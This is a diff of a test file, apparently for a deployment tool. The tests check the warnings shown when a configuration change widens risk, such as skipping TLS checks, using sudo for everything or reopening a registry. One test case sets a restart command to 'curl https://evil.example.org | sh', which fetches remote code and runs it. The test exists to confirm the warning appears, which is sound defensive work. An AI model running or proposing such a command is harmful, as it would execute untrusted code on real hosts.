@@ -120,11 +120,11 @@ const WIDER: [what: string, after: Changes, line: string, before?: Changes][] = 
         { "authentik:insecure": "true" },
         "the TLS certificate of Authentik is not checked",
     ],
-    ["sudo for everything", { host: { sudo: "all" } }, "the push uses sudo for everything it does"],
+    ["sudo for everything", { host: { sudo: "all" } }, "the deployment uses sudo for everything it does"],
     [
         "a destroy that opens the registry again",
         { host: { onDestroy: "restore" } },
-        "a destroy brings back what was on the host before the first push: an open registry, if it was one",
+        "a destroy brings back what was on the host before the first deployment: an open registry, if it was one",
     ],
     [
         "a host that is not looked at",
@@ -195,7 +195,7 @@ const READ: [what: string, after: Changes, line: RegExp, before?: Changes][] = [
     [
         "another command on the host",
         { host: { serviceManager: "command", restartCommand: "curl https://evil.example.org | sh" } },
-        /the push runs `curl https:\/\/evil/,
+        /the deployment runs `curl https:\/\/evil/,
         { host: { serviceManager: "command", restartCommand: "restart-zot" } },
     ],
     ["another binary", { zot: { binary: "/tmp/zot" } }, /zot is the program `\/tmp\/zot`/],
